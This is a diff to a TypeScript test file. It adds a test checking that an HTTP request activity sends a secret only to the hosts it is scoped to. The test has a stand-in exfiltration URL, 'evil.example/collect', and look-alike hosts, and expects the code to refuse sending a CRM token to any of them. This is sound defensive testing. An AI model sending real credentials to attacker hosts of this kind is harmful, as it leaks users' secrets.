@@ -19,7 +19,32 @@ describe('httpRequest: checks before any network', () => {
       nonRetryable: true,
     });
     const missing = http.httpRequest({ ctx, method: 'GET', url: 'https://example.com', secretHeaders: { Authorization: 'nope' } });
-    await expect(missing).rejects.toMatchObject({ nonRetryable: true, message: expect.stringContaining('"nope"') });
+    await expect(missing).rejects.toMatchObject({ nonRetryable: true, type: 'SecretNotAvailable', message: expect.stringContaining('"nope"') });
+  });
+
+  it('sends a secret only to its allowed hosts (and flows); missing and refused read the same', async () => {
+    const secrets = createEnvSecretResolver({ CAUCE_SECRET_CRM_TOKEN: 'tok-123456', CAUCE_SECRET_HOSTS_CRM_TOKEN: 'api.crm.example, *.crm.example:8443' });
+    expect(await secrets.getScoped('crm-token')).toEqual({ value: 'tok-123456', scope: { allowedHosts: ['api.crm.example', '*.crm.example:8443'], flowIds: null, roles: null } });
+    const scoped = createHttpActivities({ secrets });
+    const failure = async (url: string, secret: string) => {
+      try {
+        await scoped.httpRequest({ ctx, method: 'GET', url, secretHeaders: { Authorization: secret } });
+      } catch (err) {
+        return err as { type: string; message: string; nonRetryable: boolean };
+      }
+      throw new Error('expected a failure');
+    };
+    const refused = await failure('https://evil.example/collect', 'crm-token');
+    const missing = await failure('https://evil.example/collect', 'no-such-secret');
+    expect(refused).toMatchObject({ type: 'SecretNotAvailable', nonRetryable: true });
+    expect(refused.message).toBe('httpRequest: secret "crm-token" is not available for host evil.example: an admin must allow that host (and this flow, if the secret is limited to some) in the secret\'s allowedHosts (PATCH /api/secrets/crm-token)');
+    expect(missing.message).toBe(refused.message.replace(/crm-token/g, 'no-such-secret'));
+    // Another port of an allowed host, a look-alike host: refused the same way.
+    expect((await failure('https://api.crm.example:9443/x', 'crm-token')).type).toBe('SecretNotAvailable');
+    expect((await failure('https://api.crm.example.evil.example/x', 'crm-token')).type).toBe('SecretNotAvailable');
+    // A secret without allowed hosts (the environment variable unset) goes nowhere.
+    const unscoped = createHttpActivities({ secrets: createEnvSecretResolver({ CAUCE_SECRET_CRM_TOKEN: 'tok-123456' }) });
+    await expect(unscoped.httpRequest({ ctx, method: 'GET', url: 'https://api.crm.example/', secretHeaders: { Authorization: 'crm-token' } })).rejects.toMatchObject({ type: 'SecretNotAvailable' });
   });
 
   it('resolves secrets from CAUCE_SECRET_<NAME> only', async () => {
